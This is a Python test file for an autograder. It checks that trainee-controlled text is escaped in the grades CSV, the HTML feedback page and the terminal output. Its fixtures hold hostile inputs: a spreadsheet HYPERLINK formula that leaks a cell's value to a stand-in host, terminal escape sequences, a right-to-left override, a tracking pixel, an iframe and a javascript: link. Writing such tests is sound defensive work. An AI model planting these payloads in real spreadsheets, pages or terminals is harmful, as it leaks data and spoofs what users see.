"""What a trainee controls (folder name, notebook text, error messages) reaches the tutor as text: no formula in
a CSV, no escape sequence in the terminal, nothing loaded or run by the feedback page."""

from __future__ import annotations

import csv
import html
import io
import re
import subprocess
import sys
from pathlib import Path

from autograder.export import grades_csv
from autograder.feedback import CONTENT_SECURITY_POLICY, render_feedback
from autograder.models import CellKind, CellRecord, QuestionResult, Status, TraineeResult

FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")'
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\u202eevil"


def hostile_result(trainee: str = FORMULA) -> TraineeResult:
    question = QuestionResult(
        question="q1",
        score=0,
        max_score=1,
        status=Status.GRADED,
        reason=f"{FORMULA} {ESCAPES}",
        test_source="",
    )
    return TraineeResult(
        trainee=trainee,
        exercise="ex",
        status=Status.GRADED,
        reason=ESCAPES,
        score=0,
        max_score=1,
        questions=(question,),
        cells=(
            CellRecord(
                kind=CellKind.MARKDOWN,
                label="",
                source="![tracker](https://example.invalid/pixel.png)\n\n<img src=https://example.invalid/x>\n\n"
                '<iframe src="https://example.invalid"></iframe> [link](javascript:alert(1))',
            ),
            CellRecord(
                kind=CellKind.TRAINEE, label="cell 1", source="print(1)", stdout=ESCAPES, error=FORMULA
            ),
        ),
    )


def test_no_cell_of_grades_csv_is_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(grades_csv([hostile_result()]))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")) or re.fullmatch(r"-?[\d.]+", cell), cell
            assert "\x1b" not in cell and "\u202e" not in cell
    assert rows[1][0].startswith("'=HYPERLINK")  # still readable by the tutor


def test_the_feedback_page_loads_nothing_and_runs_nothing() -> None:
    page = render_feedback(hostile_result("alice"), "Exercise")
    assert f'content="{CONTENT_SECURITY_POLICY}"' in html.unescape(page)
    assert "default-src 'none'" in CONTENT_SECURITY_POLICY and "img-src 'none'" in CONTENT_SECURITY_POLICY
    assert not re.search(r"<(img|iframe|script|object|embed|link|base|form)\b", page, re.IGNORECASE)
    assert not re.search(r"href=\S*javascript:", page, re.IGNORECASE)
    assert "[image: tracker (https://example.invalid/pixel.png)]" in page
    assert "\x1b" not in page and "\u202e" not in page


def test_the_feedback_style_is_allowed_by_its_hash_and_nothing_else() -> None:
    page = render_feedback(hostile_result("alice"), "Exercise")
    assert "'unsafe-inline'" not in CONTENT_SECURITY_POLICY
    assert page.count("<style>") == 1


def test_the_terminal_table_shows_no_escape_sequence(tmp_path: Path) -> None:
    """The real `college grade` command, with a trainee folder whose name holds escape sequences and markup."""
    from tests.autograder.helpers import DATA_DIR, EXERCISE_DIR

    name = "\x1b]0;owned\x07[bold red]mallory\x1b[2J"
    folder = tmp_path / "submitted" / name / EXERCISE_DIR.name
    folder.mkdir(parents=True)
    notebook = next(EXERCISE_DIR.glob("*.ipynb"))
    (folder / notebook.name).write_bytes(notebook.read_bytes())
    completed = subprocess.run(
        [
            str(Path(sys.executable).parent / "college"),
            "grade",
            str(EXERCISE_DIR),
            str(tmp_path / "submitted"),
            "--out",
            str(tmp_path / "out"),
            "--data",
            str(DATA_DIR),
            "--workers",
            "1",
        ],
        capture_output=True,
        text=True,
        timeout=300,
        env={"COLUMNS": "200", "PATH": "/usr/bin:/bin", "TERM": "dumb"},
    )
    assert completed.returncode == 0, completed.stderr[-2000:]
    assert "mallory" in completed.stdout
    assert "\x1b" not in completed.stdout + completed.stderr
    assert "\x07" not in completed.stdout
